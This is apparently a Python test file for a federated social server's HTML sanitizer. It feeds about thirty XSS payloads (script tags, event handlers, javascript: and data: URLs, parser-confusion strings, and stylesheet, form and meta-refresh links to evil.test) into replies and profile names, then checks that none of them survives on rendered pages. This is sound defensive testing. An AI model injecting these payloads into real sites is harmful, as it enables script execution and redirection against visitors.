"""Hostile HTML in what others write: whatever comes, nothing of it runs, loads or leaves its place on our pages."""

from __future__ import annotations

import html.parser

import pytest

from server.base.safe_html import MAX_OUTPUT_CHARS, TAGS
from server.house import House
from tests.world import CONSOLE, Peer, World

ALLOWED = TAGS
ATTRIBUTES = {"href", "rel", "class", "lang", "dir", "translate", "start", "reversed", "value", "title"}

CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil.test'>x</a>",
    "<a href='https://ok.test' onclick='alert(1)' style='position:fixed' target='_top' id='main'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x><embed src=x><applet>",
    "<form action=https://evil.test><input name=csrf><button>go</button></form>",
    "<style>@import 'https://evil.test/x.css'; *{display:none}</style>",
    "<link rel=stylesheet href=https://evil.test/x.css><base href=https://evil.test/>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<p style='background:url(https://evil.test/x)'>x</p>",
    "<video src=https://evil.test/x autoplay><audio src=x><source src=x><track src=x>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "</main></body></html><h1>Taken over</h1>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp><plaintext>",
    "<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]>",
    "<p>" * 3_000 + "deep" + "</p>" * 3_000,
    "<b><i>" * 500 + "unclosed",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href='https://ok.test/\"onmouseover=\"alert(1)'>x</a>",
    "\u202eright to left override\u202c <bdo dir=rtl>x</bdo>",
    "<p lang='x\" onload=\"alert(1)'>x</p>",
    "<select><option><textarea></textarea></select><style><img src=x onerror=alert(1)>",
]


class Seen(html.parser.HTMLParser):
    """What a browser would find in the words of a reply."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def harmless(markup: str) -> None:
    seen = Seen()
    seen.feed(markup)
    for tag, attributes in seen.tags:
        assert tag in ALLOWED, tag
        assert set(attributes) <= ATTRIBUTES, attributes
        href = attributes.get("href")
        assert href is None or href.startswith(("https://", "http://", "mailto:")), href
        if tag == "a" and href:
            assert {"nofollow", "noopener"} <= set((attributes.get("rel") or "").split())


@pytest.fixture
async def house(world: World) -> House:
    return await world.campaign("here.test")


@pytest.fixture
async def bob(world: World, house: House) -> Peer:
    return world.peer()


@pytest.mark.parametrize("number", range(len(CORPUS)))
async def test_a_hostile_reply_is_harmless_where_it_shows(world: World, house: House, bob: Peer, number: int) -> None:
    post = await world.publish(house, "Ours")
    note = bob.note("", inReplyTo=world.uri(house, post), summary=CORPUS[number], name=CORPUS[number])
    note["content"] = f"<p>before</p>{CORPUS[number]}<p>after</p>"
    del note["name"]
    assert (await bob.send(house, bob.activity("Create", note, to=note["to"]))).status_code == 202
    (heard,) = await house.conversation.queue(("reply", "mention"), "held")
    harmless(heard.post.html)
    await house.conversation.decide(CONSOLE, [heard.post.id], "approved")
    page = (await world.get(house.addresses.post_page(post.public_id))).text
    assert "before" in page
    for evil in (
        "<script",
        "<iframe",
        "<form action=https",
        "<img src=x",
        "<svg",
        "<style",
        "<object",
        "<base",
        "Taken over</h1>",
    ):
        assert evil not in page
    assert page.count("<main") == page.count("</main>") == 1


@pytest.mark.parametrize("number", range(len(CORPUS)))
async def test_a_hostile_name_is_plain_text(world: World, house: House, number: int) -> None:
    mallory = world.peer("evil.test", "mallory", name=CORPUS[number][:200], summary=CORPUS[number])
    post = await world.publish(house, "Ours")
    note = mallory.note("Hello", inReplyTo=world.uri(house, post))
    await mallory.send(house, mallory.activity("Create", note, to=note["to"]))
    (heard,) = await house.conversation.queue(("reply", "mention"), "held")
    await house.conversation.decide(CONSOLE, [heard.post.id], "approved")
    harmless(heard.author.bio)
    page = (await world.get(house.addresses.post_page(post.public_id))).text
    for evil in ("<script", "<iframe", "<img src=x", "<svg", "<style", "<object", "<base"):
        assert evil not in page


async def test_words_without_end_are_cut(world: World, house: House, bob: Peer) -> None:
    post = await world.publish(house, "Ours")
    note = bob.note("x" * 200_000, inReplyTo=world.uri(house, post))
    assert (await bob.send(house, bob.activity("Create", note, to=note["to"]))).status_code == 202
    for heard in await house.conversation.queue(("reply", "mention"), "held"):
        assert len(heard.post.html) <= MAX_OUTPUT_CHARS


async def test_our_own_words_are_text_and_nothing_else(world: World, house: House) -> None:
    post = await world.publish(house, "\n".join(one[:100] for one in CORPUS))
    harmless(post.main.html)
    page = (await world.get(house.addresses.post_page(post.public_id))).text
    assert "&lt;script&gt;" in page
